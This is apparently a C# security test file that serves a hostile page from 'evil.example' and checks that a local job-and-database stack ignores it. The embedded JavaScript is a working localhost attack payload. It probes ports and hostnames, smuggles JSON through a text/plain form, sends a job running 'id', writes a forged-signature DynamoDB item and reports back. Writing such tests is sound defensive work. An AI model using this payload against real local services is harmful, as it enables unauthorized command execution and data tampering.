using System.Text.Json;

namespace Attack.Tests;

/// <summary>A web page that the operator visits tries every door of the stack: nothing answers it, and nothing happens.</summary>
public sealed class WebPageTests(AttackedStack attacked) : IClassFixture<AttackedStack>
{
    private const string Site = "evil.example";

    // Each way in which a page can send something to an address without its consent, and each name by which the address can be called.
    private const string Page = """
        <!doctype html>
        <script>
        const answered = [];
        const job = '{"jobName":"from-a-page","jobQueue":"default","jobDefinition":"hello","containerOverrides":{"command":["id"]}}';
        const record = JSON.stringify({ TableName: 'TABLE', Item: { PK: { S: 'JOB#from-a-page' }, SK: { S: 'JOB' }, status: { S: 'FAILED' } } });
        const aws = { 'Content-Type': 'application/x-amz-json-1.0', 'X-Amz-Date': '20300101T000000Z',
          Authorization: 'AWS4-HMAC-SHA256 Credential=AKIA/20300101/us-east-1/dynamodb/aws4_request, SignedHeaders=host, Signature=00' };
        async function ask(url, options = {}) {
          try {
            const answer = await fetch(url, { ...options, signal: AbortSignal.timeout(20000) });
            if (answer.type !== 'opaque') answered.push(`${options.method ?? 'GET'} ${url} ${answer.status}`);
          } catch { }
        }
        function post(url) {
          const frame = Object.assign(document.createElement('iframe'), { name: 'f' + Math.random() });
          const form = Object.assign(document.createElement('form'), { action: url, method: 'POST', enctype: 'text/plain', target: frame.name });
          form.append(Object.assign(document.createElement('input'), { name: job.slice(0, -1) + ',"x":"', value: '"}' }));
          document.body.append(frame, form);
          const done = new Promise(loaded => frame.onload = loaded);
          form.submit();
          return Promise.race([done, new Promise(late => setTimeout(late, 20000))]);
        }
        const picture = url => new Promise(done => {
          const image = new Image();
          image.onload = () => { answered.push('IMG ' + url); done(); };
          image.onerror = done;
          image.src = url;
          setTimeout(done, 20000);
        });
        const socket = url => new Promise(done => {
          const tried = new WebSocket(url);
          tried.onopen = () => { answered.push('WS ' + url); done(); };
          tried.onerror = done;
          setTimeout(done, 20000);
        });
        addEventListener('load', async () => {
          for (const port of [PORTS]) {
            for (const host of ['127.0.0.1', 'localhost', 'x.localhost', location.hostname]) {
              const at = `http://${host}:${port}`;
              await Promise.all([
                ask(at + '/'), ask(at + '/health'), ask(at + '/jobs?jobQueue=default'), ask(at + '/openapi.json'), ask(at + '/2018-06-01/runtime/invocation/next'),
                ask(at + '/jobs', { method: 'POST', mode: 'no-cors', body: job }),
                ask(at + '/jobs', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: job }),
                ask(at + '/v1/submitjob', { method: 'POST', mode: 'no-cors', body: job }),
                ask(at + '/2018-06-01/runtime/init/error', { method: 'POST', mode: 'no-cors', body: '{}' }),
                ask(at + '/', { method: 'POST', headers: { ...aws, 'X-Amz-Target': 'DynamoDB_20120810.PutItem' }, body: record }),
                picture(at + '/picture'), picture(at + '/jobs?jobQueue=default'), post(at + '/jobs'), socket(`ws://${host}:${port}/jobs`),
              ]);
            }
          }
          await fetch('/report', { method: 'POST', body: JSON.stringify(answered) });
        });
        </script>
        """;

    [Fact]
    public async Task Nothing_answers_it_and_no_record_appears()
    {
        var before = await attacked.RecordsAsync();
        var table = "local-JobsTable";
        // A door that lets pages in stands beside them, so that silence means refusal and not that the page could not ask.
        using EvilSite open = new("");
        var ports = attacked.Ports;
        using EvilSite site = new(Page.Replace("PORTS", $"{open.Port}, {string.Join(", ", ports)}", StringComparison.Ordinal).Replace("TABLE", table, StringComparison.Ordinal));
        using Browser browser = new(new($"http://{Site}:{site.Port}/page"), Site);

        var first = await Task.WhenAny(site.Report, browser.Ended).WaitAsync(TimeSpan.FromMinutes(5), TestContext.Current.CancellationToken);
        Assert.True(first == site.Report, $"Chromium ended without a report: {(browser.Said.IsCompleted ? string.Join('\n', await browser.Said) : "")}");
        var answered = JsonSerializer.Deserialize(await site.Report, Lists.Default.StringArray) ?? [];

        Assert.Contains($"GET http://127.0.0.1:{open.Port}/ 200", answered);
        Assert.All(answered, answer => Assert.Contains($":{open.Port}/", answer, StringComparison.Ordinal));
        // By this alone a request for a picture is known for another page's: it has no Origin.
        Assert.Contains("cross-site", open.Pictures);
        Assert.True(ports.Count > 3, string.Join(' ', ports));
        Assert.Equal(before, await attacked.RecordsAsync());
        Assert.Empty(await attacked.Api.ListAsync("/jobs?jobQueue=default&namePrefix=from-a-page", "jobs"));
    }
}

[System.Text.Json.Serialization.JsonSerializable(typeof(string[]))]
internal sealed partial class Lists : System.Text.Json.Serialization.JsonSerializerContext;
